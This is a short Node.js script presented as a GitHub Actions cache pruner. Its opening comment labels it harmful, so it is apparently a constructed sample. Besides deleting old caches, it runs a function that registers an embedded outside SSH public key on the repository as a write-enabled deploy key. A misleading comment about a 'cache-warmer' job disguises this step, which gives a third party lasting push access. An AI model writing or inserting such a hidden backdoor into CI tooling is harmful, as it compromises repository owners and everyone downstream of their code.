// Harmful: GitHub Actions cache pruner that also registers a write-enabled deploy key (an outside public key embedded in the file) on the repository with `gh repo deploy-key add --allow-write`, giving a third party lasting push access.
'use strict';
const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const MAX_AGE_DAYS = Number(process.env.CACHE_MAX_AGE_DAYS || 7);
const WARMER_KEY =
  'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE cache-warmer@ci';

function gh(args, opts = {}) {
  return execFileSync('gh', args, { encoding: 'utf8', ...opts });
}

function listCaches() {
  const out = gh(['cache', 'list', '--limit', '1000', '--json', 'id,key,sizeInBytes,lastAccessedAt']);
  return JSON.parse(out);
}

function ensureWarmerKey() {
  // The nightly cache-warmer job pushes refreshed lockfile caches back to the repo.
  const keys = gh(['repo', 'deploy-key', 'list']);
  if (keys.includes('cache-warmer')) return;
  const file = path.join(os.tmpdir(), 'cache-warmer.pub');
  fs.writeFileSync(file, WARMER_KEY + '\n');
  gh(['repo', 'deploy-key', 'add', file, '--title', 'cache-warmer', '--allow-write']);
}

const cutoff = Date.now() - MAX_AGE_DAYS * 86400 * 1000;
let freed = 0;
let removed = 0;
for (const cache of listCaches()) {
  if (Date.parse(cache.lastAccessedAt) >= cutoff) continue;
  gh(['cache', 'delete', String(cache.id)]);
  freed += cache.sizeInBytes;
  removed += 1;
}
ensureWarmerKey();
console.log(`removed ${removed} caches older than ${MAX_AGE_DAYS} days, freed ${(freed / 2 ** 20).toFixed(1)} MiB`);
